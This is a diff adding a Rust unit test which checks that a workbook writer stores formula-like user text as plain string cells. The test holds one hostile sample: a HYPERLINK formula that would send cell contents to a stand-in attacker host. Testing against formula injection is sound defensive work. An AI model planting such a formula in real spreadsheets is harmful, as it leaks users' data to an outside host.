@@ -173,3 +173,26 @@ fn a_single_column_table_is_written() {
     let text = grid(&workbook(&[one]).unwrap());
     assert!(text.contains("Xã Kỳ Xuân"), "{text}");
 }
+
+/// A user's text that looks like a formula stays text in every workbook ntm writes: read
+/// back, it is a string cell, never a formula.
+#[test]
+fn formula_like_text_is_written_as_a_string() {
+    let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")";
+    let t = Table {
+        columns: vec![Column::new("Ghi chú", 30.0)],
+        header_rows: vec![],
+        rows: vec![vec![Cell::text(hostile)], vec![Cell::text("+1+1")]],
+        totals: vec![],
+        ..sample()
+    };
+    let bytes = workbook(&[t]).unwrap();
+    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
+    let name = book.sheet_names()[0].clone();
+    let formulas = book.worksheet_formula(&name).unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cell");
+    let range = book.worksheet_range(&name).unwrap();
+    let strings: Vec<&Data> = range.used_cells().map(|(_, _, d)| d).collect();
+    assert!(strings.contains(&&Data::String(hostile.into())), "{strings:?}");
+    assert!(strings.contains(&&Data::String("+1+1".into())), "{strings:?}");
+}
